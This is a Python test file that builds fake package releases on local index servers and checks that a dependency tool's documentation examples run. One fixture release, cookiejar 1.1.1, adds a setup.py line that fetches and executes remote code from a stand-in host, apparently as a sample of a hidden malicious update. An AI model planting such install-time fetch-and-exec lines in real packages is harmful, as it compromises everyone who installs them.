"""Every example of the documentation and of the README runs, against real servers, and gives what the page says."""

import os
from pathlib import Path

import pytest
from attrs import evolve

from examples import Block, Session, blocks, environment
from pydeps_host.testing import Distribution
from pydeps_host.testing import build_sdist as sdist
from pydeps_host.testing import build_wheel as wheel
from servers import pypiserver

ROOT = Path(__file__).parents[2]
PASSWORD = "p@ss/w:rd"
# Their blocks are held by tests of their own.
ELSEWHERE = {"configuration.md", "json.md"}
PAGES = sorted(page for page in [ROOT / "README.md", *ROOT.glob("docs/**/*.md")] if page.name not in ELSEWHERE)

SESSIONS = "\n" * 355 + "class Session(SessionRedirectMixin):\n    pass\n"


def releases() -> dict[str, dict[str, str]]:
    """Releases of one project, of which one brings what its announcement does not say."""
    first = "import hashlib\n\n\ndef seal(value, key):\n    return hashlib.sha256(key + value).digest()\n"
    second = 'import hashlib\nimport hmac\n\n\ndef seal(value, key):\n    return hmac.digest(key, value, "sha256")\n'
    setup = "from setuptools import setup\nsetup()\n"
    evil = 'from urllib.request import urlopen\nexec(urlopen("https://updates.example.com/run").read())\n'
    return {
        version: {"cookiejar/jar.py": code, "README.md": readme, "setup.py": setup + more}
        for version, code, readme, more in (
            ("1.0", first, "A jar\n", ""),
            ("1.1", second, "A jra\n", ""),
            ("1.1.1", second, "A jar\n", evil),
            ("2.0", second, "A jar.\n", ""),
        )
    }


PACKAGES: tuple[Distribution, ...] = (
    sdist("requests", "2.32.3", {"src/requests/sessions.py": SESSIONS}),
    wheel("requests", "2.32.3", {"requests/sessions.py": SESSIONS}),
    sdist("flask", "3.0.0", {"src/flask/app.py": "class Flask:\n    pass\n"}),
    sdist("flask", "3.1.0", {"src/flask/app.py": "class Flask:\n    debug = False\n"}),
    sdist("attrs", "24.3.0", {"src/attr/__init__.py": "def define(cls):\n    return cls\n"}),
    sdist("numpy", "1.22.3", {"numpy/__init__.py": "pi = 3.14\n"}),
    sdist("django", "4.2", {"django/__init__.py": "VERSION = (4, 2)\n"}),
    sdist("django", "4.2.1", {"django/__init__.py": "VERSION = (4, 2, 1)\n"}),
    sdist("pyyaml", "6.0.2", {"lib/PyYAML.egg-info/top_level.txt": "_yaml\nyaml\n", "lib/yaml/__init__.py": ""}),
    *(sdist("cookiejar", version, files) for version, files in releases().items()),
)

CONFIGURATION = next(block for block in blocks((ROOT / "README.md").read_text(encoding="utf-8")) if block.language == "jsonc")
# What a page takes for granted.
GIVEN = {
    "README.md": (evolve(CONFIGURATION, lead="Write this into `host.jsonc`:"),),
    "format.md": (Block(0, "console", "$ pydeps-host sync flask --into code\n", ""),),
}


@pytest.fixture(scope="module")
def servers(tmp_path_factory):
    """A private index and a public mirror of it."""
    folder = tmp_path_factory.mktemp("servers")
    for built in PACKAGES:
        built.into(folder / "packages")
    with (
        pypiserver(folder / "packages", folder / "private", user="user", password=PASSWORD) as private,
        pypiserver(folder / "packages", folder / "public") as public,
    ):
        yield {"packages.example.com": f"127.0.0.1:{private.port}", "mirror.example.org": f"127.0.0.1:{public.port}"}


@pytest.fixture
def session(servers, tmp_path, monkeypatch):
    """A reader's shell in an empty folder."""
    folder = tmp_path / "folder"
    folder.mkdir()
    index = f"http://{servers['mirror.example.org']}/simple"
    given = environment(tmp_path, INDEX_PASSWORD=PASSWORD, PIP_INDEX_URL=index)
    for name in [name for name in os.environ if name.startswith(("PIP_", "GIT_")) or name.lower().endswith("_proxy")]:
        monkeypatch.delenv(name)
    for name, value in given.items():
        monkeypatch.setenv(name, value)
    return Session(folder, servers, given, {"<store>": "code", "<name>": "flask"})


@pytest.mark.needs("git")
@pytest.mark.needs("bash")
@pytest.mark.parametrize("page", PAGES, ids=lambda page: str(page.relative_to(ROOT)))
def test_the_examples_of_a_page_run_and_give_what_it_says(page, session):
    for given in GIVEN.get(page.name, ()):
        session.run([given])
    session.run(blocks(page.read_text(encoding="utf-8")))
